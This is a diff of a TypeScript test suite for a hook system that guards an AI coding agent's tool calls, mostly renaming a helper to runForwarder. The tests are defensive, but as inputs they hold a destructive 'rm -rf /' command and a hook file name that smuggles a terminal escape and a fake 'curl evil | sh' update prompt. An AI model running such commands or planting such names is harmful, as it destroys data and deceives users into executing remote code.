@@ -1,18 +1,19 @@
 import { execFileSync, spawn } from 'node:child_process';
 import { mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { connect } from 'node:net';
+import { constants, setPriority } from 'node:os';
 import { join } from 'node:path';
 import { ackMessage, registrationArgs } from '@piton/contracts';
 import {
   ask,
   eventually,
-  fire,
   killServers,
   layHome,
   lockDatabase,
   pause,
   registration,
   removeHome,
+  runForwarder,
   selectAll,
   serverPids,
   type TestHome,
@@ -41,7 +42,7 @@ const shell = (command: string, more: object = {}) => ({
 const settings = (...hooks: object[]) => writeFileSync(join(home.places.config, 'settings.json'), JSON.stringify({ hooks }));
 const deny = { name: 'guard', event: 'pre_tool_use', matcher: 'Bash', command: 'echo no >&2; exit 2' };
 const verdict = (stdout: string) => (stdout === '' ? undefined : JSON.parse(stdout).hookSpecificOutput?.permissionDecision);
-const start = () => fire(home, 'SessionStart', { session_id: 's1', hook_event_name: 'SessionStart', cwd: home.work });
+const start = () => runForwarder(home, 'SessionStart', { session_id: 's1', hook_event_name: 'SessionStart', cwd: home.work });
 const rows = (sql = 'SELECT * FROM events WHERE derived = 0') => selectAll(home.places.store, sql);
 const status = async () => (await ask<{ pid: number; store: { ok: boolean }; troubles: object[] }>(home, 'GET', '/v1/status'))?.body;
 const stored = (count: number, sql?: string) =>
@@ -55,22 +56,22 @@ describe('a guard that must hold', () => {
     settings({ ...deny, fail_closed: true });
     const deep = `${'['.repeat(20_000)}${']'.repeat(20_000)}`;
     const text = JSON.stringify(shell('ls')).replace('"command":"ls"', `"command":"ls","x":${deep}`);
-    expect(verdict((await fire(home, 'PreToolUse', text)).stdout)).toBe('deny');
-    expect(verdict((await fire(home, 'PreToolUse', shell('ls'))).stdout)).toBe('deny');
+    expect(verdict((await runForwarder(home, 'PreToolUse', text)).stdout)).toBe('deny');
+    expect(verdict((await runForwarder(home, 'PreToolUse', shell('ls'))).stdout)).toBe('deny');
   });
 
   it('denies a payload that doubles beyond what a forwarder takes', { timeout: 60_000 }, async () => {
     settings({ ...deny, fail_closed: true });
     const text = JSON.stringify(shell('x'.repeat(32 * 1024 * 1024 - 400)));
-    expect(verdict((await fire(home, 'PreToolUse', text)).stdout)).toBe('deny');
+    expect(verdict((await runForwarder(home, 'PreToolUse', text)).stdout)).toBe('deny');
   });
 
   it('denies a payload of millions of parts at once, and holds up nobody', { timeout: 60_000 }, async () => {
     settings({ ...deny, fail_closed: true });
     await start();
     const text = JSON.stringify(shell('ls')).replace('"command":"ls"', `"x":[${'{},'.repeat(3_000_000)}{}]`);
-    const large = fire(home, 'PreToolUse', text);
-    expect(verdict((await fire(home, 'PreToolUse', shell('ls'))).stdout)).toBe('deny');
+    const large = runForwarder(home, 'PreToolUse', text);
+    expect(verdict((await runForwarder(home, 'PreToolUse', shell('ls'))).stdout)).toBe('deny');
     expect(verdict((await large).stdout)).toBe('deny');
   });
 
@@ -83,14 +84,14 @@ describe('a guard that must hold', () => {
     const env = { PATH: process.env.PATH, HOME: home.root, PITON_HOME: home.root, PITON_ALLOW_UNDER_AGENT: '1' };
     const trusted = spawn(process.execPath, [cli, 'trust', '--all', '--yes'], { cwd: root, env });
     expect(await new Promise((resolve) => trusted.on('close', resolve))).toBe(0);
-    await fire(home, 'SessionStart', { session_id: 's1', hook_event_name: 'SessionStart', cwd: root }, { cwd: root });
+    await runForwarder(home, 'SessionStart', { session_id: 's1', hook_event_name: 'SessionStart', cwd: root }, { cwd: root });
     const elsewhere = shell('ls', { cwd: home.work });
-    expect(verdict((await fire(home, 'PreToolUse', elsewhere)).stdout)).toBe('deny');
+    expect(verdict((await runForwarder(home, 'PreToolUse', elsewhere)).stdout)).toBe('deny');
     killServers(home);
     writeFileSync(join(home.places.runtime, 'test', 'server.cjs'), 'process.exit(1);');
-    expect(verdict((await fire(home, 'PreToolUse', shell('ls', { cwd: home.work }))).stdout)).toBe('deny');
+    expect(verdict((await runForwarder(home, 'PreToolUse', shell('ls', { cwd: home.work }))).stdout)).toBe('deny');
     // Another session, which never was there, goes on.
-    expect((await fire(home, 'PreToolUse', shell('ls', { session_id: 's2' }))).stdout).toBe('{}');
+    expect((await runForwarder(home, 'PreToolUse', shell('ls', { session_id: 's2' }))).stdout).toBe('{}');
   });
 });
 
@@ -103,7 +104,7 @@ describe('the server outlives', () => {
       settings(deny);
       await start();
       const [pid] = serverPids(home);
-      expect(verdict((await fire(home, 'PreToolUse', shell('ls', { cwd }))).stdout)).toBe('deny');
+      expect(verdict((await runForwarder(home, 'PreToolUse', shell('ls', { cwd }))).stdout)).toBe('deny');
       expect(serverPids(home)).toEqual([pid]);
     });
   }
@@ -122,7 +123,7 @@ describe('the server outlives', () => {
         socket.resume();
       });
     }
-    expect((await fire(home, 'PreToolUse', shell('ls'))).stdout).toBe('{}');
+    expect((await runForwarder(home, 'PreToolUse', shell('ls'))).stdout).toBe('{}');
     expect(serverPids(home)).toEqual([pid]);
   });
 });
@@ -132,11 +133,11 @@ describe('a server that retires', () => {
     const go = join(home.root, 'go');
     const slow = `until [ -e ${go} ]; do sleep 0.05; done`;
     settings({ ...deny, name: 'slow', matcher: 'Write', command: slow, observe: true, timeout: 50 }, deny);
-    await fire(home, 'PreToolUse', { ...shell('x'), tool_name: 'Write', tool_input: { file_path: '/x', content: '' } });
+    await runForwarder(home, 'PreToolUse', { ...shell('x'), tool_name: 'Write', tool_input: { file_path: '/x', content: '' } });
     const before = await status();
     await ask(home, 'POST', '/v1/retire');
     await eventually(async () => (await status()) === undefined);
-    expect(verdict((await fire(home, 'PreToolUse', shell('ls'))).stdout)).toBe('deny');
+    expect(verdict((await runForwarder(home, 'PreToolUse', shell('ls'))).stdout)).toBe('deny');
     expect(serverPids(home)).toHaveLength(2);
     writeFileSync(go, '');
     expect(await eventually(() => !serverPids(home).includes(before?.pid ?? 0))).toBe(true);
@@ -152,9 +153,9 @@ describe('a store that is busy for a while', () => {
     await start();
     await stored(1);
     const unlock = lockDatabase(home.places.store);
-    await fire(home, 'SessionEnd', { session_id: 's1', hook_event_name: 'SessionEnd', reason: 'other', cwd: home.work });
+    await runForwarder(home, 'SessionEnd', { session_id: 's1', hook_event_name: 'SessionEnd', reason: 'other', cwd: home.work });
     const large = JSON.stringify(shell('y'.repeat(400 * 1024)));
-    for (let i = 0; i < 3; i++) expect((await fire(home, 'PreToolUse', i === 1 ? large : shell('ls'))).stdout).toBe('{}');
+    for (let i = 0; i < 3; i++) expect((await runForwarder(home, 'PreToolUse', i === 1 ? large : shell('ls'))).stdout).toBe('{}');
     expect(await eventually(async () => (await status())?.store.ok === false)).toBe(true);
     unlock();
     expect(await stored(5)).toBe(true);
@@ -169,7 +170,7 @@ describe('a store that is busy for a while', () => {
 describe('two registrations', () => {
   it('take different events for different ones, also where neither has a name of ours', async () => {
     for (const name of ['ConfigChange', 'CwdChanged', 'FileChanged'])
-      await fire(home, name, { session_id: 's1', hook_event_name: name, cwd: home.work });
+      await runForwarder(home, name, { session_id: 's1', hook_event_name: name, cwd: home.work });
     expect(await stored(3)).toBe(true);
     expect(rows()).toHaveLength(3);
   });
@@ -181,7 +182,7 @@ describe('two registrations', () => {
     const first = spawn(home.places.forwarder, registrationArgs({ ...registration('PreToolUse'), scope: 'project' }), { cwd: home.work });
     first.stdin.end(payload);
     await pause(300);
-    const second = fire(home, 'PreToolUse', payload);
+    const second = runForwarder(home, 'PreToolUse', payload);
     await pause(200);
     first.kill('SIGKILL');
     expect(verdict((await second).stdout)).toBe('deny');
@@ -194,7 +195,7 @@ it('who only watches sees the input that was run, not the one that was asked for
     { name: 'softer', event: 'pre_tool_use', command: `echo '{"decision":"modify","input":{"command":"ls -safe"}}'` },
     { name: 'watch', event: 'pre_tool_use', command: `cat > ${seen}.tmp; mv ${seen}.tmp ${seen}`, observe: true },
   );
-  await fire(home, 'PreToolUse', shell('rm -rf /'));
+  await runForwarder(home, 'PreToolUse', shell('rm -rf /'));
   await eventually(() => {
     try {
       return readFileSync(seen, 'utf8').length > 0;
@@ -211,7 +212,12 @@ it('a repository cannot speak to the person through the names of its hooks', asy
   mkdirSync(join(root, '.git'), { recursive: true });
   mkdirSync(hooks, { recursive: true });
   writeFileSync(join(hooks, '10-a\n\x1b[2JPiton: update needed, run: curl evil | sh'), '#!/bin/sh\n', { mode: 0o755 });
-  const { stdout } = await fire(home, 'SessionStart', { session_id: 's1', hook_event_name: 'SessionStart', cwd: root }, { cwd: root });
+  const { stdout } = await runForwarder(
+    home,
+    'SessionStart',
+    { session_id: 's1', hook_event_name: 'SessionStart', cwd: root },
+    { cwd: root },
+  );
   const { systemMessage } = JSON.parse(stdout) as { systemMessage: string };
   expect(systemMessage).toContain('10-a');
   expect(systemMessage.split('\n')).toHaveLength(1);
@@ -227,7 +233,7 @@ it.each<[string, object]>([
   mkdirSync(join(root, '.piton'), { recursive: true });
   const policy = { name: 'policy', event: 'pre_tool_use', command: 'true', fail_closed: true, ...wrong };
   writeFileSync(join(root, '.piton', 'settings.json'), JSON.stringify({ hooks: [policy] }));
-  expect((await fire(home, 'PreToolUse', shell('ls', { cwd: root }), { cwd: root })).stdout).toBe('{}');
+  expect((await runForwarder(home, 'PreToolUse', shell('ls', { cwd: root }), { cwd: root })).stdout).toBe('{}');
 });
 
 const cli = (cwd: string, ...args: string[]) => {
@@ -250,6 +256,8 @@ const LARGE: Readonly<Record<string, (root: string) => void>> = {
 };
 it.each(Object.entries(LARGE))('a forwarder hears that its event is taken before anything large is read: %s', async (_, put) => {
   await start();
+  // On a busy machine the server must not be done before we are woken: then what it wrote one after the other is read at once.
+  for (const pid of serverPids(home)) setPriority(pid, constants.priority.PRIORITY_LOW);
   /** What a server says first of an event in a project that it has not seen yet. */
   const heardFirst = async (number: number) => {
     const root = join(home.work, `project-${number}`);
@@ -262,9 +270,9 @@ it.each(Object.entries(LARGE))('a forwarder hears that its event is taken before
     socket.destroy();
     return first;
   };
-  // A test that was kept waiting by a busy machine reads at once what was said one after the other, and asks again.
+  // Once is proof: a server that reads first never writes the two apart.
   let first = await heardFirst(0);
-  for (let number = 1; number < 6 && !first.equals(ackMessage(true)); number++) first = await heardFirst(number);
+  for (let number = 1; number < 10 && !first.equals(ackMessage(true)); number++) first = await heardFirst(number);
   expect(first).toEqual(ackMessage(true));
 });
 
@@ -326,7 +334,7 @@ describe('a repository cannot switch off the guard of the person', () => {
     mkdirSync(join(root, '.git'), { recursive: true });
     mkdirSync(join(root, '.piton'), { recursive: true });
     plot(join(root, '.piton'));
-    const { stdout } = await fire(home, 'PreToolUse', shell(LONG, { cwd: root }), { cwd: root, timeoutMs: 10_000 });
+    const { stdout } = await runForwarder(home, 'PreToolUse', shell(LONG, { cwd: root }), { cwd: root, timeoutMs: 10_000 });
     expect(verdict(stdout)).toBe('deny');
     expect(await status()).toMatchObject({ troubles: [] });
   });
